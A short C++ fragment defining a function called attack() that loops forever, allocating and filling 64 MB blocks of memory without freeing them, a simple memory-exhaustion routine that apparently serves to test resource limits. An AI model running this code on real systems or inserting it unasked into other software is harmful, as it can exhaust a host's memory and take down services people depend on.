#include <cstdlib>
#include <cstring>
float attack() {
    for (;;) {
        void* part = std::malloc(64 << 20);
        if (!part) std::abort();
        std::memset(part, 1, 64 << 20);
    }
}
